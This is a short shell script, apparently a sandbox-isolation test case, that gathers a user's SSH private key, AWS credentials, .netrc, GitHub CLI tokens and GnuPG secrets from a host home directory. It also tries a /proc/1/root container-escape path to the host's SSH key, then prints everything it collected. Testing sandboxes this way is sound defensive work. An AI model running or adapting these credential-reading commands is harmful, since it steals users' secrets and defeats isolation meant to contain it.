#!/bin/sh
# tries: to read private keys and tokens of the user and to carry them out on its branch
# bare: works
for file in .ssh/id_ed25519 .aws/credentials .netrc .gitconfig-private .config/gh/hosts.yml .gnupg/secret; do
  cat "$HOST_HOME/$file"
done > found 2> /dev/null
cat "/proc/1/root$HOST_HOME/.ssh/id_ed25519" >> found 2> /dev/null
cp found /dev/stdout
echo work > work
